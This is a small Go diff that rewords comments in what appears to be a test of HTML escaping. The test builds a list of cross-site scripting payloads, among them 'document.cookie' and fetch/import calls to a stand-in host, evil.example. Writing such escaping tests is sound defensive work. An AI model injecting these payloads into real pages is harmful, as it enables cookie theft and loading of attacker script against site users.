@@ -13,8 +13,8 @@ import (
 	"golang.org/x/net/html"
 )
 
-// injections are 200 texts that would become something else on a page which does
-// not escape them in its context.
+// injections returns 200 texts that change a page that does not escape them in their
+// context.
 func injections() []string {
 	payloads := []string{
 		"alert(1)", "alert`1`", "eval(name)", "document.cookie", "fetch('//evil.example')", "import('//evil.example')",
@@ -106,7 +106,7 @@ func (a *answer) shows(text string) (found bool) {
 	return found
 }
 
-// harmless fails if there is an element or attribute that no page has.
+// harmless checks that the page has only elements and attributes that some page has.
 func (a *answer) harmless(what string) {
 	a.t.Helper()
 	a.inline(what)
